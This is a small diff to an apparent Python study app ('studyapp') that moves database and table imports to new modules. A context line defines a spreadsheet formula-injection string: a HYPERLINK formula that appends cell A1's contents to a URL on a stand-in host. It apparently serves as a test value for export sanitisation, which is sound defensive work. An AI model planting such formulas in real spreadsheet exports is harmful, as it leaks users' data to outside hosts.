@@ -7,9 +7,9 @@ from typing import Any
 
 from sqlalchemy import select
 
+from studyapp.database.engine import Database, sqlite_url
+from studyapp.database.tables import StudySession, Trial, Video
 from studyapp.definition.folder import StudyFolder
-from studyapp.models import StudySession, Trial, Video
-from studyapp.services.database import Database, sqlite_url
 
 FORMULA = '=HYPERLINK("http://example.org/?" & A1, "me")'
 
